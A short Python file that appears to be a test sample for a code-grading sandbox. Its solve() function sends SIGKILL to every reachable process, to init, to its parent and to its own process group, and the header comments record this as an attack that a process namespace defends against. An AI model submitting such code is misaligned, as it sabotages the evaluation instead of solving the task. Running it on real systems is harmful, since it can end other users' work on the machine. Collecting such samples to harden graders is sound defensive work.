# class: 44 signals to others
# tries: a candidate that kills all it can while tests wait
# sees: passed victim
# defended: a process namespace
# weak: none: it would end other sandboxes of this machine
import os
import signal


def solve(x):
    for pid in (-1, 1, 2, 3, os.getppid(), 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
